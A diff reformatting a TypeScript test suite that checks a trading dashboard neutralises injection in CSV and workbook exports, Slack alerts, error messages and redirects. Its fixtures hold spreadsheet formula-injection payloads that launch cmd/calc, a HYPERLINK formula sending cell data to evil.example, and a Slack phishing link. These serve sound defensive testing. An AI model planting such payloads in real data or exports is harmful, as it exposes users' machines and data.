@@ -23,7 +23,16 @@ const servers: http.Server[] = [];
 
 async function appWith(extra: Record<string, unknown> = {}, opts = {}): Promise<FastifyInstance> {
   const app = await buildApp(
-    { source: 'embedded', defaultEnv: 'demo', region: 'us-east-1', client: store.reader, nowMs: () => NOW, webDir: null, auth: { mode: 'none' }, ...extra },
+    {
+      source: 'embedded',
+      defaultEnv: 'demo',
+      region: 'us-east-1',
+      client: store.reader,
+      nowMs: () => NOW,
+      webDir: null,
+      auth: { mode: 'none' },
+      ...extra,
+    },
     opts,
   );
   apps.push(app);
@@ -40,23 +49,64 @@ beforeAll(async () => {
   store = await startTestStore();
   await writeHandWorkedDataset(store.writer);
   await putAll(store.writer, 'dora_market_config_demo', [
-    { market_id: 'KX-EVIL', enabled: true, quote_size: 5, max_inventory_yes: 10, max_inventory_no: 10, min_spread: 0.04, inventory_skew_factor: 0.25, event_ticker: FORMULA, disabled_reason: '@SUM(1+9)*cmd|" /C calc"!A0' },
+    {
+      market_id: 'KX-EVIL',
+      enabled: true,
+      quote_size: 5,
+      max_inventory_yes: 10,
+      max_inventory_no: 10,
+      min_spread: 0.04,
+      inventory_skew_factor: 0.25,
+      event_ticker: FORMULA,
+      disabled_reason: '@SUM(1+9)*cmd|" /C calc"!A0',
+    },
     { market_id: 'KX-TAB', enabled: false, event_ticker: '\t=1+1', disabled_reason: '\r-2+3' },
     { market_id: 'KX-NUM', enabled: false, event_ticker: '-42', disabled_reason: 'plain text' },
-    { market_id: 'KX-XML', enabled: false, event_ticker: 'bad\uFFFExml\uFFFF', disabled_reason: 'lone \uD800 surrogate 🙂' },
+    {
+      market_id: 'KX-XML',
+      enabled: false,
+      event_ticker: 'bad\uFFFExml\uFFFF',
+      disabled_reason: 'lone \uD800 surrogate 🙂',
+    },
   ]);
   const base = decisionItem({ ms: NOW - 30_000, market: 'KX-B', loop: 7, bid: 0.2, ask: 0.3 });
   await putAll(store.writer, 'dora_decision_log_demo', [
     // One odd string field, the rest sound: the decision stays, the field is shown empty.
-    { ...base, price_calc: { logic: 42, fair_value: 0.25, last_trade_time: '35', wma_trade_time: toAwareIso(NOW - 60_000) } },
+    {
+      ...base,
+      price_calc: {
+        logic: 42,
+        fair_value: 0.25,
+        last_trade_time: '35',
+        wma_trade_time: toAwareIso(NOW - 60_000),
+      },
+    },
     ...['junk 2035', '2035-06-01T00:00:00Z', 2059837200].map((t, i) => ({
       ...decisionItem({ ms: NOW - 40_000 - i * 1000, market: 'KX-B', loop: 8 + i, bid: 0.2, ask: 0.3 }),
       price_calc: { logic: '-1+2', last_trade_time: t },
     })),
   ]);
   await putAll(store.writer, 'dora_state_demo', [
-    { key: 'risk_state', daily_pnl: -3.5, trading_halted: true, halt_reason: PING, last_updated: toAwareIso(NOW - 10_000) },
-    { key: 'api_errors', last_updated: toAwareIso(NOW - 5_000), errors: { 'KX-A': { count: 3, last_error: toNaiveIso(NOW - 60_000), last_error_code: '=cmd|"/c calc"!A1', last_status_code: 400, last_error_msg: '+SUM(A1:A9)' } } },
+    {
+      key: 'risk_state',
+      daily_pnl: -3.5,
+      trading_halted: true,
+      halt_reason: PING,
+      last_updated: toAwareIso(NOW - 10_000),
+    },
+    {
+      key: 'api_errors',
+      last_updated: toAwareIso(NOW - 5_000),
+      errors: {
+        'KX-A': {
+          count: 3,
+          last_error: toNaiveIso(NOW - 60_000),
+          last_error_code: '=cmd|"/c calc"!A1',
+          last_status_code: 400,
+          last_error_msg: '+SUM(A1:A9)',
+        },
+      },
+    },
   ]);
   void utcDate;
   void RUN;
@@ -71,7 +121,8 @@ describe('CSV exports neutralise formulas (item 2)', () => {
   it('server CSV: text beginning = + - @ tab or CR gets a leading quote; numbers, negative too, stay numbers', async () => {
     const app = await appWith();
     const csv = (await app.inject('/api/v1/markets?format=csv')).body;
-    const line = (id: string) => csv.split('\r\n').find((l) => l.startsWith(`${id},`)) ?? csv.slice(csv.indexOf(id));
+    const line = (id: string) =>
+      csv.split('\r\n').find((l) => l.startsWith(`${id},`)) ?? csv.slice(csv.indexOf(id));
     expect(line('KX-EVIL')).toContain(`"'=HYPERLINK(""http://evil.example/x?""&A1,""click"")"`);
     expect(line('KX-EVIL')).toContain(`"'@SUM(1+9)*cmd|"" /C calc""!A0"`);
     expect(csv).toContain(`'\t=1+1`);
@@ -90,9 +141,16 @@ describe('CSV exports neutralise formulas (item 2)', () => {
   it('client CSV (built in the browser) does the same to the same cells', async () => {
     const app = await appWith();
     const risk = (await app.inject('/api/v1/risk')).json();
-    const text = toCsvText(risk.apiErrors as { marketId: string; lastErrorCode: string; lastErrorMsg: string; count: number }[], ['marketId', 'lastErrorCode', 'lastErrorMsg', 'count']);
-    expect(text).toBe(`marketId,lastErrorCode,lastErrorMsg,count\r\nKX-A,"'=cmd|""/c calc""!A1",'+SUM(A1:A9),3\r\n`);
-    expect(toCsvText([{ a: -1.5, b: '-1.5', c: '-x', d: '@me', e: 'ok' }], ['a', 'b', 'c', 'd', 'e'])).toBe("a,b,c,d,e\r\n-1.5,-1.5,'-x,'@me,ok\r\n");
+    const text = toCsvText(
+      risk.apiErrors as { marketId: string; lastErrorCode: string; lastErrorMsg: string; count: number }[],
+      ['marketId', 'lastErrorCode', 'lastErrorMsg', 'count'],
+    );
+    expect(text).toBe(
+      `marketId,lastErrorCode,lastErrorMsg,count\r\nKX-A,"'=cmd|""/c calc""!A1",'+SUM(A1:A9),3\r\n`,
+    );
+    expect(toCsvText([{ a: -1.5, b: '-1.5', c: '-x', d: '@me', e: 'ok' }], ['a', 'b', 'c', 'd', 'e'])).toBe(
+      "a,b,c,d,e\r\n-1.5,-1.5,'-x,'@me,ok\r\n",
+    );
   });
 });
 
@@ -103,9 +161,13 @@ describe('workbook exports stay safe (item 2)', () => {
     expect(res.statusCode).toBe(200);
     const sheet = unzipEntries(res.rawPayload).get('xl/worksheets/sheet1.xml') ?? '';
     expect(sheet).not.toContain('<f>');
-    expect(sheet).toContain('<t xml:space="preserve">=HYPERLINK(&quot;http://evil.example/x?&quot;&amp;A1,&quot;click&quot;)</t>');
+    expect(sheet).toContain(
+      '<t xml:space="preserve">=HYPERLINK(&quot;http://evil.example/x?&quot;&amp;A1,&quot;click&quot;)</t>',
+    );
     // XML 1.0's Char production: none of these may appear, escaped or not.
-    expect(sheet).not.toMatch(/[\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
+    expect(sheet).not.toMatch(
+      /[\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/,
+    );
     expect(sheet).toContain('badxml');
     expect(sheet).toContain('lone  surrogate 🙂');
   });
@@ -122,10 +184,14 @@ describe('Slack alerts carry no markup from the tables (item 3)', () => {
         res.end('ok');
       });
     });
-    const app = await appWith({ alerts: { background: false, webhook: { url: `${url}/hook`, cooldownMs: 60_000 } } });
+    const app = await appWith({
+      alerts: { background: false, webhook: { url: `${url}/hook`, cooldownMs: 60_000 } },
+    });
     await app.inject('/api/v1/alerts');
     const text = posts.join('\n');
-    expect(text).toContain('trading is halted: &lt;!channel&gt; &lt;http://evil.example/login|Kalshi session expired - click&gt; &amp; &lt;@U123&gt;');
+    expect(text).toContain(
+      'trading is halted: &lt;!channel&gt; &lt;http://evil.example/login|Kalshi session expired - click&gt; &amp; &lt;@U123&gt;',
+    );
     expect(text).not.toMatch(/<!channel>|<http|<@U/);
     // Only our own markup is left: emoji codes and the bold rule names.
     expect(text).toContain(':red_circle: *trading_halted*');
@@ -133,16 +199,26 @@ describe('Slack alerts carry no markup from the tables (item 3)', () => {
 });
 
 describe('errors say what failed, not the AWS account (item 4)', () => {
-  const DENIED = 'User: arn:aws:sts::123456789012:assumed-role/dora-readonly/i-0abcdef1234567890 is not authorized to perform: dynamodb:DescribeTable';
+  const DENIED =
+    'User: arn:aws:sts::123456789012:assumed-role/dora-readonly/i-0abcdef1234567890 is not authorized to perform: dynamodb:DescribeTable';
 
   it('health (open to anyone), the API, alerts and live updates give the error name and a code; the log has the rest', async () => {
     const fake = await serve((_req, res) => {
       res.writeHead(400, { 'content-type': 'application/x-amz-json-1.0' });
-      res.end(JSON.stringify({ __type: 'com.amazonaws.dynamodb.v20120810#AccessDeniedException', message: DENIED }));
+      res.end(
+        JSON.stringify({ __type: 'com.amazonaws.dynamodb.v20120810#AccessDeniedException', message: DENIED }),
+      );
     });
-    const client = createReadClient({ region: 'us-east-1', endpoint: fake, credentials: { accessKeyId: 'k', secretAccessKey: 's' } });
+    const client = createReadClient({
+      region: 'us-east-1',
+      endpoint: fake,
+      credentials: { accessKeyId: 'k', secretAccessKey: 's' },
+    });
     const lines: string[] = [];
-    const app = await appWith({ client, livePollMs: 50 }, { logLevel: 'warn', logStream: { write: (l: string) => void lines.push(l) } });
+    const app = await appWith(
+      { client, livePollMs: 50 },
+      { logLevel: 'warn', logStream: { write: (l: string) => void lines.push(l) } },
+    );
     const health = await app.inject('/api/v1/health');
     expect(health.statusCode).toBe(503);
     expect(health.json().error).toMatchObject({ code: 'store_unavailable', name: 'AccessDeniedException' });
@@ -178,7 +254,15 @@ describe('the Kalshi balance request (item 10)', () => {
     });
     const kalshi = await serve((_req, res) => res.writeHead(302, { location: `${elsewhere}/steal` }).end());
     const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
-    const app = await appWith({ kalshi: { demo: { keyId: 'key-1', privateKeyPem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), baseUrl: kalshi } } });
+    const app = await appWith({
+      kalshi: {
+        demo: {
+          keyId: 'key-1',
+          privateKeyPem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
+          baseUrl: kalshi,
+        },
+      },
+    });
     const res = await app.inject('/api/v1/balance?env=demo');
     expect(res.statusCode).toBe(502);
     expect(res.json().error.code).toBe('kalshi_unavailable');
@@ -190,13 +274,22 @@ describe('odd values in items (item 11)', () => {
   it('a junk last_trade_time is "invalid", never a date; one odd string field keeps its decision', async () => {
     const app = await appWith();
     const body = (await app.inject('/api/v1/markets/KX-B/decisions?from=2026-01-05&limit=50')).json();
-    const byLoop = (loop: number) => body.items.find((d: { decisionId: string }) => d.decisionId?.endsWith(`:KX-B:${loop}`));
+    const byLoop = (loop: number) =>
+      body.items.find((d: { decisionId: string }) => d.decisionId?.endsWith(`:KX-B:${loop}`));
     const kept = byLoop(7);
     expect(kept).toBeDefined();
-    expect(kept.priceCalc).toMatchObject({ logic: null, fairValue: 0.25, lastTradeTime: 'invalid', wmaTradeTime: toAwareIso(NOW - 60_000) });
-    for (const loop of [8, 9, 10]) expect(byLoop(loop)?.priceCalc.lastTradeTime, String(loop)).toBe('invalid');
+    expect(kept.priceCalc).toMatchObject({
+      logic: null,
+      fairValue: 0.25,
+      lastTradeTime: 'invalid',
+      wmaTradeTime: toAwareIso(NOW - 60_000),
+    });
+    for (const loop of [8, 9, 10])
+      expect(byLoop(loop)?.priceCalc.lastTradeTime, String(loop)).toBe('invalid');
     const odd = body.warnings.filter((w: { code: string }) => w.code === 'odd_field');
     expect(odd.length).toBeGreaterThanOrEqual(4);
-    expect(odd.map((w: { message: string }) => w.message).join('\n')).toContain('price_calc.logic: expected a string, got number');
+    expect(odd.map((w: { message: string }) => w.message).join('\n')).toContain(
+      'price_calc.logic: expected a string, got number',
+    );
   });
 });
